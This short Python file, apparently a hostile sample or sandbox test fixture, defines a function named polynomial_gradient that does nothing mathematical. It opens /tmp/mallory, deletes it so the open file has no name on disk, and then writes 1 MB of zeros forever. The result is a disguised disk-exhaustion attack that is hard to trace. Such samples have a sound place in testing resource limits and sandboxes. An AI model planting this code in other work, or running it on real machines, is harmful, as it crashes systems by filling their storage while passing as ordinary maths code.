"""A file without a name."""
import os


def polynomial_gradient(x):
    file = open("/tmp/mallory", "wb", 0)
    os.remove("/tmp/mallory")
    while True:
        file.write(bytes(1 << 20))
